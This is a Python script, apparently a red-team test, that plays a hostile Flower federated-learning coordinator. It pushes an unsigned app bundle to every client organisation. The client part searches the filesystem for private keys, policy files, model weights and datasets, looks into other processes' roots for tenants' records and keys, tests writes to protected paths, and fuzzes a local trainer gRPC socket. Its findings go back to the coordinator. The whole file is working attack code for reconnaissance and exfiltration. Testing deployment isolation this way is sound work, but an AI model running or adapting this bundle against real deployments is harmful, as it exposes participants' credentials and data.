"""Runs on a coordinator that has turned hostile: ships code of its own to every organisation and prints what it found.

``python3 - < hostile_bundle.py`` in the superexec container. Flower 1.41 checks no signature of what it ships.
"""

import hashlib
import os
import time
from pathlib import Path

from flwr.cli.build import build_fab_from_files
from flwr.common.serde import fab_to_proto
from flwr.proto.control_pb2 import StartRunRequest, StreamLogsRequest
from flwr.supercore.fab import Fab

from deploy.flower_control import FlowerControl

PYPROJECT = """
[project]
name = "hostile"
version = "1.0.0"
description = "looks around"
license = "Apache-2.0"

[tool.flwr.app]
publisher = "hostile"

[tool.flwr.app.components]
serverapp = "hostile.server:app"
clientapp = "hostile.client:app"
"""
SERVER = """
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    messages = [
        Message(RecordDict({"ask": ConfigRecord({"what": "all"})}), dst_node_id=node, message_type="query")
        for node in grid.get_node_ids()
    ]
    for reply in grid.send_and_receive(messages, timeout=240):
        print("HOSTILE", reply.error if reply.has_error() else reply.content["found"]["json"], flush=True)
"""
CLIENT = """
import json, os, socket

import grpc
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()
SOCKET = "/run/cloister/trainer.sock"
NAMES = {"client.key", "client-tls.key", "policy.toml", "trainer.toml", "status.sock", "model.safetensors"}

def files():
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/opt/cloister")):
            continue
        for name in names:
            if name in NAMES or (name.endswith((".jsonl", ".sqlite", ".npz")) and name != "CONTENT.jsonl"):
                yield os.path.join(folder, name)

def others():
    for process in filter(str.isdigit, os.listdir("/proc")):
        for path in ("data/records.jsonl", "state/ledger.sqlite", "etc/cloister/client.key"):
            if os.path.exists(os.path.join("/proc", process, "root", path)):
                yield f"{process}/{path}"

def written():
    for path in ("/data", "/etc/x", "/opt/cloister/x", "/etc/cloister/kit/x"):
        try:
            open(path, "wb").close()
        except OSError:
            continue
        yield path

def answers():
    ask = lambda method, body: grpc.insecure_channel("unix:" + SOCKET).unary_unary("/cloister.v1.Trainer/" + method)(
        body, timeout=20)
    for method in ("Describe", "Train", "SignedList", "SignedPart", "Status", "Budget", "Read"):
        for body in (b"", b"\\x0a\\x03{{}", os.urandom(64)):
            try:
                yield method, len(ask(method, body))
            except grpc.RpcError as error:
                yield method, str(error.code())

@app.query()
def query(message, context):
    found = {"files": sorted(files()), "others": sorted(others()), "written": sorted(written())}
    found["answers"] = sorted({(method, str(answer)) for method, answer in answers()})
    found["sockets"] = sorted(os.listdir(os.path.dirname(SOCKET)))
    return Message(RecordDict({"found": ConfigRecord({"json": json.dumps(found)})}), reply_to=message)
"""

files = {
    "pyproject.toml": PYPROJECT.encode(),
    "README.md": b"hostile\n",
    "hostile/__init__.py": b"",
    "hostile/server.py": SERVER.encode(),
    "hostile/client.py": CLIENT.encode(),
}


def main() -> None:
    """Push the bundle, wait for its run to end, and print what it brought home."""
    content, _ = build_fab_from_files(files)
    with FlowerControl(os.environ["CLOISTER_SUPERLINK"], Path(os.environ["CLOISTER_TLS_AUTHORITY"])) as control:
        fab = fab_to_proto(Fab(hashlib.sha256(content).hexdigest(), content, {}))
        number = control._client.StartRun(StartRunRequest(fab=fab)).run_id
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline:
            run = control.show(number)
            if run is not None and run.is_over:
                break
            time.sleep(2)
        for piece in control._client.StreamLogs(StreamLogsRequest(run_id=number, after_timestamp=0.0)):
            print(piece.log_output, end="", flush=True)


if __name__ == "__main__":
    main()
